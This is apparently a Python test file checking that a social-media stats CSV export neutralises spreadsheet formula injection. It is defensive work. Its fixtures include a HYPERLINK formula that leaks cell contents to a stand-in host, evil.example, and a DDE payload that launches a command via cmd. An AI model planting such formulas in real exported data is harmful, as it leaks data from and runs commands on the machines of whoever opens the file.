"""``stats --format csv``: no cell a stranger wrote runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

from threadsync.stats.collect import MEDIA_METRICS
from threadsync.stats.formats import CSV_COLUMNS, render_csv
from threadsync.stats.report import PostRow, Report

NOW = dt.datetime(2026, 5, 1, 12, 0, tzinfo=dt.timezone.utc)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


def _row(post_id: str, text: str, **fields: object) -> PostRow:
    values: dict[str, object] = {
        "id": post_id,
        "kind": "text",
        "media_id": "1790",
        "published_at": NOW,
        "permalink": "https://www.threads.net/@you/post/C1",
        "text": text,
        "metrics": {m: 1 for m in MEDIA_METRICS},
        "fetched_at": NOW,
    }
    values.update(fields)
    return PostRow(**values)  # type: ignore[arg-type]


def _csv(*rows: PostRow) -> list[dict[str, str]]:
    report = Report(NOW, None, 6, list(rows), None, len(rows), 0)
    return list(csv.DictReader(io.StringIO(render_csv(report))))


def test_a_post_whose_text_is_a_formula_is_text_in_the_spreadsheet() -> None:
    (row,) = _csv(_row("launch", HYPERLINK))
    assert row["text"] == "'" + HYPERLINK
    assert row["id"] == "launch" and row["permalink"] == "https://www.threads.net/@you/post/C1"


def test_every_text_cell_that_starts_a_formula_is_neutralised() -> None:
    hostile = {
        "id": "-2+3",
        "media_id": "+1790",
        "permalink": "@SUM(A1:A9)",
        "error": "\t=cmd|' /C calc'!A0",
        "text": "\r=1+1",
    }
    (row,) = _csv(_row(**{**hostile, "post_id": hostile["id"]}))  # type: ignore[arg-type]
    for column, value in hostile.items():
        assert row[column] == "'" + value.replace("\r", "\n"), column
    assert len(_csv(_row("a", "x\ry"), _row("b", "\r\n=1"))) == 2  # a CR ends no row
    assert not any(row[c].startswith(("=", "+", "-", "@", "\t", "\r")) for c in CSV_COLUMNS)


def test_numbers_stay_numbers_even_when_negative() -> None:
    metrics = {m: -5 for m in MEDIA_METRICS}
    (row,) = _csv(_row("dip", "a post", metrics=metrics))
    assert {row[m] for m in MEDIA_METRICS} == {"-5"}
    assert row["engagement"] == str(-5 * 5)


def test_ordinary_cells_are_unchanged() -> None:
    (row,) = _csv(_row("hello", "hello world", error=None))
    assert row["text"] == "hello world" and row["error"] == "" and row["views"] == "1"
    assert row["published_at"] == NOW.isoformat()
